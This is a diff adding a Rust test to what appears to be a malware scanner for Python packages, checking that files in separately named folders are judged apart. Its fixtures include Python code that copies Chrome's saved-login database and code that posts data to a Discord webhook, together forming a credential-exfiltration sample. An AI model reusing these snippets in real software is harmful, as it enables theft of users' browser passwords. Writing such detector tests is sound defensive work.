@@ -301,3 +301,21 @@ fn a_list_of_dependencies_that_advisories_were_matched_to_is_judged_and_one_with
     assert_eq!(answer(&["check", "src/requirements.txt", "--advisories", "advisories", "--json"]), "no_finding");
     project.run(&["check", "src/old", "--advisories", "advisories"]).failed(1, &["vulnerable-dependency", "2.0"]);
 }
+
+/// What one folder does says nothing of another that is named beside it; below one folder that is named, files are of one hand.
+#[test]
+fn folders_that_are_named_are_a_package_each() {
+    let project = Project::new();
+    project.write(
+        "both/one/keep.py",
+        "import os\nimport shutil\n\n\ndef logins(target):\n    source = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\n    shutil.copy(source, target)\n    return target\n",
+    );
+    project.write(
+        "both/two/tell.py",
+        "import requests\n\n\ndef report(data):\n    requests.post('https://discord.com/api/webhooks/123456/abcdef', json=data)\n",
+    );
+    project.run(&["check", "both"]).failed(1, &["malice/exfiltration"]);
+    let apart = project.run(&["check", "both/one", "both/two/"]);
+    assert!(!apart.out.contains("malice/"), "{}", apart.out);
+    assert!(apart.out.contains("2 files judged"), "{}", apart.out);
+}
